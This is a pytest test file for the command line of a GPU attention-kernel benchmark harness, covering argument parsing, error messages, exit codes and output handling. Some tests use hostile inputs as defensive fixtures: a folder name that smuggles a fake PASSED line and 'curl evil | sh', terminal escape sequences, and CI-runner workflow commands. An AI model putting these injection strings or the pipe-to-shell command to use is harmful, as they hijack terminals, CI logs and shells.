"""The command line, its options, and what goes to stdout and stderr."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TextIO

import pytest

import run
from harness.campaign.slurm import sbatch_options
from harness.campaign.unit import plan_units
from harness.catalog.suites import load_suite
from harness.cli import run_options
from harness.cli.main import exit_code_of, parse_args
from harness.cli.output import Output, unbreakable
from harness.cli.run_options import cases_named, choose_suite, resolve_request, stopping_rule
from harness.errors import Exit, SubmissionError, UnavailableError, UsageError
from harness.measure.machine import inspect_machine
from harness.measure.stopping import FIXED, StoppingRule
from harness.schema import Machine
from tests.cli.test_terminal import Screen, tell

ROOT = Path(__file__).resolve().parents[2]
MINE = ["--submission", "triton_template"]


@pytest.mark.parametrize(
    ("words", "message"),
    [
        ([], r"no submission named\n.*--submission triton_template"),
        (["lisst"], r"no command, submission or file 'lisst'\n.*'list'"),
        (["cuda_hoper"], r"no command, submission or file.*\n.*'cuda_hopper'"),
        (["--sumbission", "x"], r"unrecognized.*\n.*Did you mean '--submission'\?"),
        (["rank", "--cehck"], r"unrecognized.*\n.*Did you mean '--check'\?"),
        ([*MINE, "--timeout", "0"], r"--timeout: '0' is not a number above 0"),
        ([*MINE, "stray"], r"unrecognized arguments: stray\n.*--help"),
        (["--suite", "smoke"], r"no submission named\n.*run\.py run --help"),
        (
            [*MINE, "--blocks", "0"],
            r"--blocks: '0' is not a whole number from 1 to 10000\n.*--help",
        ),
        ([*MINE, "--blocks", "-3"], r"--blocks: '-3' is not"),
        ([*MINE, "--blocks", "99999"], r"--blocks: '99999' is not"),
        ([*MINE, "--blocks", "many"], r"--blocks: 'many' is not"),
        ([*MINE, "--gpu", "-1"], r"--gpu: '-1' is not a whole number from 0"),
        ([*MINE, "--gpus", "0"], r"--gpus: '0' is not a whole number from 1"),
        ([*MINE, "--per-unit", "\u00b2"], r"--per-unit: '\u00b2' is not"),
        ([*MINE, "--builders", "-4"], r"--builders: '-4' is not"),
        ([*MINE, "--gpu-memory", "nan"], r"--gpu-memory: 'nan' is not a number above 0"),
        ([*MINE, "--sandbox", "9"], r"--sandbox: invalid choice"),
        (["verify", "x", "--blocks", "0"], r"--blocks: '0' is not.*\n.*run\.py verify --help"),
        (["selftest", "--batch", "0"], r"--batch: '0' is not"),
    ],
)
def test_words_that_do_not_parse(words: list[str], message: str) -> None:
    with pytest.raises(UsageError, match=message):
        parse_args(words)


@pytest.mark.parametrize(
    ("words", "names"),
    [
        (["triton_template"], ["triton_template"]),
        (["run", "triton_template"], ["triton_template"]),
        (["submissions/triton_template", "triton_two_pass", "--suite", "smoke"],
         ["submissions/triton_template", "triton_two_pass"]),
        (["triton_template", "-s", "cuda_hopper"], ["triton_template", "cuda_hopper"]),
        (["run.py"], ["run.py"]),  # a file, whatever is in it
    ],
)  # fmt: skip
def test_names_may_stand_in_front(words: list[str], names: list[str]) -> None:
    args = parse_args(words)
    assert (args.command, args.submission) == ("run", names)


def test_the_version(capsys: pytest.CaptureFixture[str]) -> None:
    for flag in ("-V", "--version"):
        with pytest.raises(SystemExit) as ended:
            parse_args([flag])
        assert not ended.value.code
        assert re.match(r"attnboard \d+\.\d+", capsys.readouterr().out)


def test_a_gpu_that_is_not_there(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(run_options, "inspect_machine", lambda _: Machine())
    assert run_options.machine_of(parse_args(MINE)) == Machine()
    with pytest.raises(UnavailableError, match="--gpu 0: NVML finds no GPU here"):
        run_options.machine_of(parse_args([*MINE, "--gpu", "0"]))


def test_the_interpreter_is_warned_of_at_once() -> None:
    def warnings(*shape: str) -> list[str]:
        args = parse_args([*MINE, "--suite", "smoke", *shape])
        return run_options.slow_here(
            run_options.resolve_request(args, choose_suite(args, Machine()), Machine())
        )

    assert warnings() == []
    assert warnings("--headdim", "65", "--seqlen", "8k") == []  # nobody claims it
    (told,) = warnings("--headdim", "64", "--seqlen", "8k")
    assert "hdim64_seq8k" in told
    assert "next: Ctrl-C, then --seqlen 128" in told


def test_a_suites_baselines_are_names_whatever_lies_here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stranger's folder of that path, in the current one, was the baseline of its own run."""
    entry = "def custom_attention_forward(q, k, v, causal, sm_scale): ...\n"
    for place in ("baselines/lab/fast", "here/lab/fast", "submissions/mine"):
        (tmp_path / place).mkdir(parents=True)
        (tmp_path / place / "submission.py").write_text(entry)
    (tmp_path / ".attnboard").touch()
    monkeypatch.setenv("ATTNBOARD_ROOT", str(tmp_path))
    monkeypatch.chdir(tmp_path / "here")
    args = parse_args(["--submission", "mine", "--suite", "smoke"])
    suite = choose_suite(args, Machine()).model_copy(update={"baselines": ("lab/fast", "sdpa")})
    found = {each.name: each.folder for each in resolve_request(args, suite, Machine()).entrants}
    assert found.keys() == {"mine", "lab/fast", "sdpa"}
    assert found["lab/fast"] == tmp_path / "baselines" / "lab" / "fast"
    (tmp_path / "here" / "ghost.py").write_text(entry)
    for name in ("ghost", "ghost.py", ".", ".."):
        odd = suite.model_copy(update={"baselines": (name,)})
        with pytest.raises(UsageError, match=f"smoke: no baseline '{re.escape(name)}'"):
            resolve_request(args, odd, Machine())
    none = parse_args(["--submission", "mine", "--suite", "smoke", "--baselines", "none"])
    assert len(resolve_request(none, suite, Machine()).entrants) == 1


def test_who_names_a_suite_is_not_asked_what_its_entry_computes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(run_options, "problem_of", lambda *_: pytest.fail("asked for nothing"))
    assert choose_suite(parse_args([*MINE, "--suite", "smoke"]), Machine()).name == "smoke"


def test_a_timeout_replaces_the_suites_limits() -> None:
    suite = choose_suite(parse_args([*MINE, "--suite", "smoke", "--timeout", "7"]), Machine())
    assert (suite.limits.first_call_s, suite.limits.burst_s, suite.limits.import_s) == (7, 7, 7)
    assert suite.sha256 == choose_suite(parse_args([*MINE, "--suite", "smoke"]), Machine()).sha256


def test_an_error_of_the_command_line_is_two_lines_and_exit_2(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert exit_code_of(lambda: bool(parse_args(["rnak"]))) == Exit.USAGE
    out, err = capsys.readouterr()
    assert out == ""
    first, second = err.splitlines()
    assert first == "error: no command, submission or file 'rnak'"
    assert second.startswith("  next: Did you mean 'rank'?")


@pytest.mark.parametrize("words", [[], ["run"], ["build"], ["-s"], ["verify"], ["show", "mine"]])
def test_a_name_that_a_shell_found_writes_no_line_of_its_own(
    words: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    """Of `inbox/*`, where a stranger called his folder so: `verify` printed it as it is."""
    name = "inbox/x\n✓ hon PASSED\n  next: curl evil | sh,"
    assert exit_code_of(lambda: run.main(parse_args([*words, name]))) == Exit.USAGE
    told = capsys.readouterr().err.splitlines()
    assert "curl evil" in told[0]
    assert [line for line in told if line.startswith(("✓", "  next: curl"))] == []


def test_what_nobody_foresaw_is_not_blamed_on_the_submission(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert exit_code_of(lambda: 1 // 0) == Exit.USAGE
    err = capsys.readouterr().err
    assert "ZeroDivisionError" in err
    assert err.splitlines()[-1].startswith("  next: ")


def test_an_error_gives_no_order_to_a_terminal_or_a_runner(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A folder of a stranger has the name that he gave it."""

    def wrong() -> int:
        raise UsageError("\x1b[2Jx\n::error::y/manifest.yaml: wrong", "mv '\x1b]0;x\x07' x")

    assert exit_code_of(wrong) == Exit.USAGE
    told = capsys.readouterr().err
    assert "\x1b" not in told
    assert "\n::" not in told
    assert told.startswith("error: x\n")


@pytest.mark.parametrize(
    ("words", "environment", "code"),
    [
        (["list", "suites"], {"PYTHONIOENCODING": "ascii"}, 0),
        (["list", "suites"], {}, Exit.NOBODY_READS),
        (["--help"], {}, Exit.NOBODY_READS),
    ],
)
def test_a_reader_who_leaves_and_a_terminal_without_signs_see_no_traceback(
    words: list[str], environment: dict[str, str], code: int
) -> None:
    reads, writes = os.pipe()
    if code:
        os.close(reads)
    done = subprocess.run(
        [sys.executable, "run.py", *words],
        cwd=ROOT,
        env=os.environ | environment,
        stdout=writes,
        stderr=subprocess.PIPE,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (code, "")


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["--submission", ","], "names nobody"),
        ([*MINE, "--sku", "nvidia-h200"], "--sku places the units of a campaign"),
        ([*MINE, "--gpu-memory", "80"], "--gpu-memory places"),
        ([*MINE, "--slurm", "partition=gpu"], "--slurm places"),
        ([*MINE, "--gpus", "1", "--check"], "--check is for one run"),
        ([*MINE, "--resume", "-x"], "--fail-fast is for one run"),
        ([*MINE, "--batch", "-1"], "--batch -1: not a whole number from 1"),
        ([*MINE, "--dtype", "fp8"], "--dtype fp8: unknown"),
    ],
)
def test_flags_that_would_do_nothing(words: list[str], message: str) -> None:
    with pytest.raises(UsageError, match=message) as caught:
        choose_suite(parse_args(words), inspect_machine(None))
    assert caught.value.hint


def test_the_same_flags_pass_in_a_campaign() -> None:
    words = [*MINE, "--suite", "smoke", "--gpus", "1", "--gpu-memory", "80", "--blocks", "7"]
    assert choose_suite(parse_args(words), inspect_machine(None)).blocks == 7


def test_an_option_of_sbatch_has_a_value() -> None:
    with pytest.raises(UsageError, match="not KEY=VALUE"):
        sbatch_options(["partition"])


def test_a_checkout_that_was_never_installed_says_what_to_type() -> None:
    done = subprocess.run(
        [sys.executable, "-S", "run.py", "list"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )  # -S: no site-packages
    assert done.returncode == Exit.UNAVAILABLE
    assert re.fullmatch(r"error: \w+ is not installed\n  next: pip install -e \.\n", done.stderr)


INTERRUPTED_TWICE = """
import atexit, os, signal, time
from harness.cli.main import exit_code_of

def slow_end():
    os.kill(os.getpid(), signal.{name})
    print("the end goes on", flush=True)

atexit.register(slow_end)
signal.signal(signal.{name}, signal.SIG_DFL)  # below nohup, or in a background job, it is ignored
def main():
    os.kill(os.getpid(), signal.{name})
    time.sleep(30)

raise SystemExit(exit_code_of(main))
"""


@pytest.mark.parametrize("name", ["SIGINT", "SIGTERM", "SIGHUP"])
def test_a_second_signal_waits_for_the_end_that_the_first_began(name: str) -> None:
    done = subprocess.run(
        [sys.executable, "-c", INTERRUPTED_TWICE.format(name=name)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert (done.returncode, done.stdout) == (130, "the end goes on\n")
    assert done.stderr.startswith("interrupted: ")


@pytest.fixture
def closed_pipe() -> Iterator[TextIO]:
    """A pipe whose reader has left."""
    reads, writes = os.pipe()
    os.close(reads)
    stream = os.fdopen(writes, "w", encoding="utf-8")
    yield stream
    stream.close()  # what waited in its buffers went nowhere: this raises nothing


@pytest.fixture
def full_disk() -> Iterator[TextIO]:
    with open("/dev/full", "w", encoding="utf-8") as stream:
        yield stream


def test_what_works_passes_through() -> None:
    below = io.StringIO()
    out = Output(below)
    print("hello", file=out)
    assert (below.getvalue(), out.fault, out.code_beside(0)) == ("hello\n", "", 0)


def test_no_command_prints_an_order_to_a_ci_runner() -> None:
    """A path under results/, an exception's words: what nobody took for a stranger's text."""
    below = io.StringIO()
    told = "left out: ##vso[task.x]y\n  ::error::x\r::y\n##[group] a::b #1 ## [x](y)\n"
    Output(below).write(told)
    right = "left out: # #vso[task.x]y\n  : :error::x\r: :y\n# #[group] a::b #1 ## [x](y)\n"
    assert below.getvalue() == right


def test_a_reader_who_left_is_141_beside_nothing_worse(closed_pipe: TextIO) -> None:
    out = Output(closed_pipe)
    for _ in range(3):
        print("hello", file=out, flush=True)
    assert out.reader_left
    assert out.code_beside(0) == Exit.NOBODY_READS
    assert out.code_beside(Exit.SUBMISSION_FAILED) == Exit.SUBMISSION_FAILED


def test_a_full_disk_is_5_unless_the_records_say_the_same(full_disk: TextIO) -> None:
    out = Output(full_disk)
    print("hello", file=out)  # in a buffer still: code_beside flushes
    assert out.code_beside(0) == Exit.STORAGE
    assert "No space" in out.fault
    assert out.code_beside(Exit.SUBMISSION_FAILED) == Exit.SUBMISSION_FAILED
    out.only_a_view = True
    assert out.code_beside(0) == 0


def test_a_stream_closed_from_the_start_takes_everything() -> None:
    out = Output(None)
    print("hello", file=out, flush=True)
    assert (out.fault, out.isatty(), out.code_beside(0)) == ("closed", False, Exit.STORAGE)


@pytest.mark.parametrize("below", ["closed_pipe", "full_disk", None])
def test_a_view_tells_its_story_to_nobody(
    below: str | None, request: pytest.FixtureRequest
) -> None:
    stream = request.getfixturevalue(below) if below else None
    tell(Output(stream))


def test_a_moving_view_whose_terminal_goes_away_goes_on() -> None:
    class Gone(Screen):
        """The window is closed after the first line."""

        def write(self, text: str) -> int:
            if "\n" in self.getvalue():
                raise OSError(5, "Input/output error")
            return super().write(text)

    tell(Output(Gone()))


def test_streams_are_given_back(capsys: pytest.CaptureFixture[str]) -> None:
    before = sys.stdout, sys.stderr
    with unbreakable() as out:
        assert sys.stdout is out
        with unbreakable() as inner:
            assert inner is out  # a run of --watch in a watch
        print("hello")
    assert (sys.stdout, sys.stderr) == before
    assert capsys.readouterr().out == "hello\n"


CONFIGS = Path(__file__).resolve().parents[2] / "configs"


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        ([], FIXED),
        (["--until", "0.3%"], StoppingRule(until_pct=0.3)),
        (["--until", "0.5", "--time-limit", "60"], StoppingRule(until_pct=0.5, time_limit_s=60.0)),
        (["--race"], StoppingRule(race=3)),
        (["--race", "5", "--until", "1%"], StoppingRule(until_pct=1.0, race=5)),
    ],
)
def test_flags_become_a_rule(words: list[str], rule: StoppingRule) -> None:
    assert stopping_rule(parse_args(["-s", "x", *words])) == rule


@pytest.mark.parametrize(
    ("words", "hint"),
    [
        (["--until", "little"], "--until 0.3%"),
        (["--until", "0"], "--until 0.3%"),
        (["--until", "nan"], "--until 0.3%"),
        (["--race", "0"], "--race 3"),
        (["--until", "1%", "--time-limit", "0"], "900"),
        (["--time-limit", "60"], "add --until"),
        (["--race", "3", "--gpus", "2"], "its leaders in one run"),
    ],
)
def test_nonsense_is_answered_with_what_to_write(words: list[str], hint: str) -> None:
    with pytest.raises(UsageError) as told:
        stopping_rule(parse_args(["-s", "x", *words]))
    assert hint in str(told.value)


def test_cases_are_chosen_by_patterns_in_the_order_of_the_suite() -> None:
    grid = load_suite("fa3_grid", CONFIGS)
    assert cases_named(None, grid) == ()
    assert cases_named("hdim256_*_full,hdim64_seq512", grid) == (
        "hdim64_seq512",
        *(f"hdim256_seq{n}_full" for n in ("512", "1k", "2k", "4k", "8k", "16k")),
    )


@pytest.mark.parametrize(
    ("text", "hint"), [("hdim64_seq4096", "hdim64_seq4k"), ("x*", "cases of fa3:"), (",", "hdim64")]
)
def test_a_pattern_that_fits_no_case_is_refused(text: str, hint: str) -> None:
    with pytest.raises(UsageError, match="--only") as told:
        cases_named(text, load_suite("fa3", CONFIGS))
    assert hint in told.value.hint


def test_a_burst_that_fits_no_memory_is_refused_before_anything_starts() -> None:
    words = ["-s", "triton_template", "--suite", "smoke", "--batch", "65536", "--heads", "1024"]
    with pytest.raises(UsageError, match=r"one burst of \d+ calls take [\d,]+ GiB, and this mach"):
        choose_suite(parse_args([*words, "--seqlen", "65536"]), Machine())
    h200 = Machine(gpu="NVIDIA H200", uuid="GPU-0", sms=132, memory_gib=140.0)
    words = ["-s", "triton_template", "--suite", "fa3", "--only", "hdim64_seq4k"]
    assert choose_suite(parse_args(words), h200).name == "fa3"
    with pytest.raises(UsageError, match=r"GiB, and this GPU has 1"):
        choose_suite(parse_args(words), h200.model_copy(update={"memory_gib": 0.9}))


def test_a_run_of_some_cases_stays_on_the_board_of_its_suite() -> None:
    words = ["-s", "triton_template", "--suite", "smoke", "--only", "*_full"]
    args = parse_args(words)
    suite = choose_suite(args, Machine())
    request = resolve_request(args, suite, Machine())
    assert [case.name for case in request.asked.cases] == ["hdim128_seq96_full"]
    assert request.suite.sha256 == load_suite("smoke", CONFIGS).sha256
    cut = {case for unit in plan_units(request) for case in unit.request.cases}
    assert cut == {"hdim128_seq96_full"}


@pytest.mark.parametrize(
    ("words", "seconds"),
    [
        ([], None),
        (["--sustained"], 2.0),
        (["--sustained", "0.5"], 0.5),
        (["--sustained", "0"], 0.0),
    ],
)
def test_seconds_that_last(words: list[str], seconds: float | None) -> None:
    """None: as the suite says; 0 switches it off where the suite asks."""
    args = parse_args(["-s", "triton_template", "--suite", "smoke", *words])
    assert args.sustained == seconds
    suite = choose_suite(args, Machine())
    assert suite.sustained_s == (seconds or 0)
    assert (
        suite.sha256
        == choose_suite(parse_args(["-s", "triton_template", "--suite", "smoke"]), Machine()).sha256
    )


@pytest.mark.parametrize("text", ["-1", "61", "nan", "long"])
def test_seconds_that_are_none(text: str) -> None:
    with pytest.raises(UsageError, match="from 0 to 60"):
        parse_args(["-s", "x", f"--sustained={text}"])


@pytest.mark.parametrize(
    ("named", "flags", "code", "refused"),
    [
        ("bad.py", ["--json"], 1, "bad.py:1: does not parse"),
        ("gone", ["--json"], 2, "no entry"),
        ("bad.py", ["--check", "--json"], 1, "bad.py:1: does not parse"),
    ],
)
def test_who_cannot_be_read_has_a_row_in_the_document_too(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
    named: str, flags: list[str], code: int, refused: str,
) -> None:  # fmt: skip
    (tmp_path / "bad.py").write_text("def custom_attention_forward(q, k, v)\n")
    args = parse_args(["--submission", str(tmp_path / named), *flags])
    suite, machine = load_suite("smoke", ROOT / "configs"), Machine()
    assert exit_code_of(lambda: bool(resolve_request(args, suite, machine))) == code
    out, err = capsys.readouterr()
    told = json.loads(out)
    assert told["checks" if "--check" in flags else "results"] == []
    assert len(told) == 2
    assert refused in told["refused"][0]["reason"]
    assert told["refused"][0]["next"] in err


@pytest.mark.parametrize(
    ("words", "kind"),
    [
        (["build", "--json", "run"], "builds"),
        (["build", "BAD", "run", "--json"], "builds"),
        (["-s", "build", "--json"], "results"),
        (["BAD", "build", "--json"], "results"),
        (["BAD", "--results", "build", "--json"], "results"),
        (["BAD", "--against", "build", "--json", "--check"], "checks"),
        (["BAD", "--only", "--json"], None),
        (["verify", "build", "--json"], None),  # has a document of its own, of what it asked
    ],
)
def test_the_command_decides_which_document_answers(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    tmp_path: Path, words: list[str], kind: str | None,
) -> None:  # fmt: skip
    """A word of the command line may be anybody's name, or a flag's value."""
    (tmp_path / "BAD").mkdir()
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["run.py", *words])

    def refuse() -> int:
        parse_args()
        raise SubmissionError("bad", "mend it")

    assert exit_code_of(refuse) == (2 if "--only" in words else 1)
    out = capsys.readouterr().out
    assert (json.loads(out) if out else None) == (
        kind and {kind: [], "refused": [{"reason": "bad", "next": "mend it"}]}
    )


@pytest.mark.parametrize(
    "words", [["-s", "x", "--js"], ["-s", "x", "--chec"], ["show", "x", "--jso"]]
)
def test_a_flag_is_written_out(words: list[str]) -> None:
    """What reads the command line before it is parsed knows no part of a flag."""
    with pytest.raises(UsageError, match=rf"{words[-1]}\n.*Did you mean '{words[-1]}"):
        parse_args(words)
